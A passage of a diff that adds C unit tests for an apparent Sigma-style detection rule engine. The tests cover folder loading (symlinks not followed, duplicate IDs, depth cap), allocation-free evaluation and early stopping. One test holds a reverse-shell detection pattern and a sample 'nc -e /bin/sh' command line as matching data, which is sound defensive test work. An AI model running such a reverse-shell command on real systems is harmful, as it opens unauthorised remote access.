+    assert_int_equal(ds_engine_add_file(eng, path, NULL, NULL, NULL), 0);
+    assert_int_equal(ds_engine_build(eng), 0);
+    v = fev_make(&e, eng, "process.executable", "C:\\Windows\\whoami.exe", NULL);
+    assert_string_equal(eval_titles(eng, -1, &v, &h, NULL), "winproc");
+    ds_engine_destroy(eng);
+    tu_rm_rf(dir);
+}
+
+/* ---- folders ---- */
+
+struct seen {
+    char log[4096];
+    unsigned by_status[4];
+};
+
+static void on_report(void *ctx, const struct ds_report *rep)
+{
+    struct seen *s = ctx;
+    s->by_status[rep->status]++;
+    const char *base = strrchr(rep->path, '/');
+    size_t n = strlen(s->log);
+    snprintf(s->log + n, sizeof(s->log) - n, "%s %d %s|%s\n", base ? base + 1 : rep->path,
+             rep->status, ds_reason_name(rep->reason), rep->msg);
+}
+
+static bool accept_not_disabled(void *ctx, const struct ds_rule *rule, const char *relpath,
+                                char *why, size_t whylen)
+{
+    (void)ctx;
+    (void)rule;
+    if (strcmp(relpath, "sub/off.yml") == 0) {
+        snprintf(why, whylen, "disabled by folder sub");
+        return false;
+    }
+    return true;
+}
+
+static const char *simple_rule(char *buf, size_t len, const char *title, const char *id)
+{
+    snprintf(buf, len,
+             "title: %s\n"
+             "id: %s\n" LNX("process_creation") "detection:\n"
+                                                "    sel:\n"
+                                                "        Image|endswith: /%s\n"
+                                                "    condition: sel\n",
+             title, id, title);
+    return buf;
+}
+
+static void test_add_dir(void **state)
+{
+    (void)state;
+    char dir[128], p[512], sub[256], deep[256], y[1024];
+    assert_int_equal(tu_mkdtemp("sigdir", dir, sizeof dir), 0);
+    snprintf(sub, sizeof sub, "%s/sub", dir);
+    snprintf(deep, sizeof deep, "%s/sub/deeper", dir);
+    assert_int_equal(mkdir(sub, 0700), 0);
+    assert_int_equal(mkdir(deep, 0700), 0);
+    snprintf(p, sizeof p, "%s/b.yml", dir);
+    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "bee", "id-b")), 0);
+    snprintf(p, sizeof p, "%s/a.yaml", dir);
+    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "ay", "id-a")), 0);
+    snprintf(p, sizeof p, "%s/notes.txt", dir);
+    assert_int_equal(tu_write(p, "not a rule"), 0);
+    snprintf(p, sizeof p, "%s/sub/c.yml", dir);
+    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "sea", "id-b")), 0);
+    snprintf(p, sizeof p, "%s/sub/off.yml", dir);
+    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "off", "id-off")), 0);
+    snprintf(p, sizeof p, "%s/sub/deeper/d.yml", dir);
+    assert_int_equal(tu_write(p, simple_rule(y, sizeof y, "dee", "id-d")), 0);
+    snprintf(p, sizeof p, "%s/sub/bad.yml", dir);
+    assert_int_equal(tu_write(p, "title: [\n"), 0);
+    /* A symbolic link to a rule outside: never followed. */
+    char outside[128], target[256];
+    assert_int_equal(tu_mkdtemp("sigout", outside, sizeof outside), 0);
+    snprintf(target, sizeof target, "%s/evil.yml", outside);
+    assert_int_equal(tu_write(target, simple_rule(y, sizeof y, "evil", "id-e")), 0);
+    snprintf(p, sizeof p, "%s/link.yml", dir);
+    assert_int_equal(symlink(target, p), 0);
+    snprintf(p, sizeof p, "%s/linkdir", dir);
+    assert_int_equal(symlink(outside, p), 0);
+
+    struct ds_engine *eng = engine(NULL);
+    struct seen s = {0};
+    char err[256];
+    assert_int_equal(
+        ds_engine_add_dir(eng, dir, accept_not_disabled, on_report, &s, err, sizeof err), 0);
+    /* Name order: a.yaml, b.yml, link.yml, then sub/ (bad, c, deeper/d,
+     * off); notes.txt and linkdir are not rule files. */
+    assert_int_equal(ds_engine_rule_count(eng), 3);
+    assert_string_equal(ds_crule_rule(ds_engine_rule_at(eng, 0))->title, "ay");
+    assert_string_equal(ds_crule_rule(ds_engine_rule_at(eng, 1))->title, "bee");
+    assert_string_equal(ds_crule_rule(ds_engine_rule_at(eng, 2))->title, "dee");
+    printf("%s", s.log);
+    const char *l = s.log;
+    assert_non_null(l = strstr(l, "a.yaml 0 loaded|\n"));
+    assert_non_null(l = strstr(l, "b.yml 0 loaded|\n"));
+    assert_non_null(l = strstr(l, "link.yml 2 io_error|"));
+    assert_non_null(strstr(l, "a symbolic link, which is not followed"));
+    assert_non_null(l = strstr(l, "bad.yml 2 yaml_error|"));
+    assert_non_null(l = strstr(l, "c.yml 2 duplicate_id|"));
+    assert_non_null(strstr(l, "id id-b is already used by "));
+    assert_non_null(l = strstr(l, "d.yml 0 loaded|"));
+    assert_non_null(l = strstr(l, "off.yml 3 loaded|disabled by folder sub\n"));
+    assert_int_equal(s.by_status[DS_ST_LOADED], 3);
+    assert_int_equal(s.by_status[DS_ST_SKIPPED], 3);
+    assert_int_equal(s.by_status[DS_ST_DISABLED], 1);
+    assert_null(strstr(s.log, "evil"));
+    assert_string_equal(ds_reason_name(DS_SKIP_DUPLICATE_ID), "duplicate_id");
+    assert_int_equal(ds_reason_class(DS_SKIP_DUPLICATE_ID), DS_CLASS_INPUT);
+    ds_engine_destroy(eng);
+
+    /* A folder that is not there. */
+    eng = engine(NULL);
+    snprintf(p, sizeof p, "%s/none", dir);
+    assert_int_equal(ds_engine_add_dir(eng, p, NULL, NULL, NULL, err, sizeof err), RP_ERR_IO);
+    assert_non_null(strstr(err, "none"));
+    ds_engine_destroy(eng);
+
+    /* Past the depth cap. */
+    char chain[2048];
+    snprintf(chain, sizeof chain, "%s", outside);
+    for (unsigned i = 0; i <= DS_DIR_DEPTH_MAX; i++) {
+        size_t n = strlen(chain);
+        snprintf(chain + n, sizeof chain - n, "/d");
+        assert_int_equal(mkdir(chain, 0700), 0);
+    }
+    eng = engine(NULL);
+    assert_int_equal(ds_engine_add_dir(eng, outside, NULL, NULL, NULL, err, sizeof err),
+                     RP_ERR_RANGE);
+    assert_non_null(strstr(err, "deeper than the cap"));
+    ds_engine_destroy(eng);
+    tu_rm_rf(dir);
+    tu_rm_rf(outside);
+}
+
+/* ---- the hot path ---- */
+
+static void test_no_allocation_per_event(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    add_ok(eng, "revshell.yml", rule_revshell);
+    add_ok(eng, "re.yml",
+           "title: re\n" LNX("process_creation") "detection:\n"
+                                                 "    sel:\n"
+                                                 "        CommandLine|re|i: 'nc\\s+-e'\n"
+                                                 "    kw:\n"
+                                                 "        - '*python*'\n"
+                                                 "    ref:\n"
+                                                 "        Image|fieldref: ParentImage\n"
+                                                 "    condition: sel or kw or ref\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    struct fev e;
+    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/bash",
+                                "process.command_line", "bash -c 'nc -e /bin/sh x 1'",
+                                "process.parent.executable", "/usr/bin/python3", NULL);
+    struct ds_eval_stats st;
+    assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
+    counting_install();
+    unsigned matched = 0;
+    counting = 1;
+    for (int i = 0; i < 100; i++) {
+        assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
+        matched += st.matched;
+    }
+    counting = 0;
+    assert_int_equal(allocations, 0);
+    assert_int_equal(matched, 100);
+    ds_engine_destroy(eng);
+}
+
+/* A match callback that stops the evaluation: its value comes back. */
+static int stop_at_first(void *ctx, const struct ds_crule *r)
+{
+    (void)r;
+    (*(int *)ctx)++;
+    return 7;
+}
+
+static void test_stop(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    add_ok(eng, "a.yml",
+           "title: a\n" LNX("process_creation") "detection:\n"
+                                                "    sel:\n"
+                                                "        Image|contains: bin\n"
+                                                "    condition: sel\n");
+    add_ok(eng, "b.yml",
+           "title: b\n" LNX("process_creation") "detection:\n"
+                                                "    sel:\n"
+                                                "        Image|contains: usr\n"
+                                                "    condition: sel\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    struct fev e;
+    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/ls", NULL);
+    int calls = 0;
+    assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, stop_at_first, &calls, NULL), 7);
+    assert_int_equal(calls, 1);
+    ds_engine_destroy(eng);
+}
+
+int main(int argc, char **argv)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_fieldmap),
+        cmocka_unit_test(test_event_types),
+        cmocka_unit_test(test_eval_condition),
+        cmocka_unit_test(test_values_and_valuemap),
+        cmocka_unit_test(test_keywords),
+        cmocka_unit_test(test_fieldref_and_memo),
+        cmocka_unit_test(test_can_never_match),
+        cmocka_unit_test(test_compile_errors),
+        cmocka_unit_test(test_any_logsource_raw_fields),
+        cmocka_unit_test(test_add_dir),
+        cmocka_unit_test(test_no_allocation_per_event),
+        cmocka_unit_test(test_stop),
+    };
+    return tu_run_tests(tests, NULL, NULL, argc, argv);
+}
